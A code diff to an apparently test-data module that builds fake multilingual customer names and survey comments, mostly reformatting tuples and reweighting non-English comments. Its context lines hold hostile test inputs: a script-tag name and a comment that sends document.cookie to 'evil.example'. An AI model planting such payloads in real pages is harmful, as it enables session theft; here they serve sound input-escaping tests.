@@ -35,13 +35,14 @@ ORGANIZATIONS = (
 )
 
 FIRST_NAMES = (
-    "Ada", "Ben", "Chiara", "Dilnoza", "Emil", "Farah", "Gábor", "Hana", "Ivo", "Jun", "Kofi", "Leïla", "Marek",
-    "Nadia", "Oskar", "Pilar", "Quentin", "Rania", "Søren", "Tuğba", "Ulrike", "Valentina", "Wanjiru", "Xóchitl",
-    "Yusuf", "Zsófia", "محمد", "שרה", "太郎", "小红", "राहुल", "Дмитро",
+    "Ada", "Ben", "Chiara", "Dilnoza", "Emil", "Farah", "Gábor", "Hana", "Ivo", "Jun", "Kofi", "Leïla",
+    "Marek", "Nadia", "Oskar", "Pilar", "Quentin", "Rania", "Søren", "Tuğba", "Ulrike", "Valentina",
+    "Wanjiru", "Xóchitl", "Yusuf", "Zsófia", "محمد", "שרה", "太郎", "小红", "राहुल", "Дмитро",
 )  # fmt: skip
 LAST_NAMES = (
-    "Almeida", "Björk", "Costa", "Dubois", "Eriksen", "Fischer", "García", "Hughes", "Ito", "Jansen", "Kaya",
-    "Lewandowska", "Müller", "Novák", "O'Neil", "Park", "Quispe", "Rossi", "Singh", "Tran", "Usman", "Vega", "Wu",
+    "Almeida", "Björk", "Costa", "Dubois", "Eriksen", "Fischer", "García", "Hughes", "Ito", "Jansen",
+    "Kaya", "Lewandowska", "Müller", "Novák", "O'Neil", "Park", "Quispe", "Rossi", "Singh", "Tran", "Usman",
+    "Vega", "Wu",
 )  # fmt: skip
 HOSTILE_NAMES = (
     "<b>Bobby</b> <script>alert('name')</script>",
@@ -93,24 +94,27 @@ REASONS = (  # the last one came with version 2 of the survey
 )
 
 _GOOD_OPENINGS = (
-    "Quick and friendly.", "Solved on the first try, thank you!", "Great help, as always.", "Very clear answer.",
-    "Patient and kind.", "Could not be better.", "Fast reply.", "Thanks for calling back.", "Perfect service",
-    "Sehr freundlich und schnell, danke!", "¡Excelente atención, muchas gracias!", "Świetna obsługa, dziękuję!",
-    "شكرا جزيلا على المساعدة السريعة", "תודה רבה, שירות מצוין", "非常好，谢谢！", "とても丁寧な対応でした。",
-    "बहुत अच्छी मदद मिली, धन्यवाद", "👍👍👍", "❤️ best support team",
+    "Quick and friendly.", "Solved on the first try, thank you!", "Great help, as always.",
+    "Very clear answer.", "Patient and kind.", "Could not be better.", "Fast reply.",
+    "Thanks for calling back.", "Perfect service", "Sehr freundlich und schnell, danke!",
+    "¡Excelente atención, muchas gracias!", "Świetna obsługa, dziękuję!", "شكرا جزيلا على المساعدة السريعة",
+    "תודה רבה, שירות מצוין", "非常好，谢谢！", "とても丁寧な対応でした。", "बहुत अच्छी मदद मिली, धन्यवाद",
+    "👍👍👍", "❤️ best support team",
 )  # fmt: skip
 _BAD_OPENINGS = (
-    "Took far too long.", "Nobody read what I wrote.", "Still not working.", "I was sent from one person to the next.",
-    "Got a copied answer that did not fit.", "The refund never arrived.", "Waited three days for a first reply.",
-    "Closed without solving it!", "I had to explain everything again.", "The link in the answer was dead.",
-    "Viel zu langsam, und das Problem besteht weiter.", "Nadie me dio una solución.", "Problem nadal nie rozwiązany.",
-    "استغرق الأمر وقتا طويلا جدا", "עדיין לא פתרו לי את הבעיה", "等了三天才有人回复", "返事が遅すぎます。",
-    "समस्या अभी भी हल नहीं हुई", "😡😡😡", "👎",
+    "Took far too long.", "Nobody read what I wrote.", "Still not working.",
+    "I was sent from one person to the next.", "Got a copied answer that did not fit.",
+    "The refund never arrived.", "Waited three days for a first reply.", "Closed without solving it!",
+    "I had to explain everything again.", "The link in the answer was dead.",
+    "Viel zu langsam, und das Problem besteht weiter.", "Nadie me dio una solución.",
+    "Problem nadal nie rozwiązany.", "استغرق الأمر وقتا طويلا جدا", "עדיין לא פתרו לי את הבעיה",
+    "等了三天才有人回复", "返事が遅すぎます。", "समस्या अभी भी हल नहीं हुई", "😡😡😡", "👎",
 )  # fmt: skip
 _DETAILS = (
-    "", "", "", "My order was 2 weeks late.", "The chat kept dropping.", "It was about the invoice of last month.",
-    "I wrote about the login, twice.", "The app on my phone is the issue.", "Please pass this on.",
-    "Delivery address was mixed up.", "The export is what I needed.",
+    "", "", "", "My order was 2 weeks late.", "The chat kept dropping.",
+    "It was about the invoice of last month.", "I wrote about the login, twice.",
+    "The app on my phone is the issue.", "Please pass this on.", "Delivery address was mixed up.",
+    "The export is what I needed.",
 )  # fmt: skip
 _HOSTILE_COMMENTS = (
     "<script>fetch('http://evil.example/'+document.cookie)</script>",
@@ -129,7 +133,10 @@ _HOSTILE_COMMENTS = (
 
 
 def _with_details(openings: tuple[str, ...]) -> list[str]:
-    return [f"{opening} {detail}".strip() for opening, detail in product(openings, _DETAILS)]
+    """English openings with every detail, the others as they are but often."""
+    english = [opening for opening in openings if opening.isascii()]
+    foreign = [opening for opening in openings if not opening.isascii()]
+    return foreign * 5 + [f"{opening} {detail}".strip() for opening, detail in product(english, _DETAILS)]
 
 
 # one list for both moods, so that a comment is a number; the hostile ones sit at its end
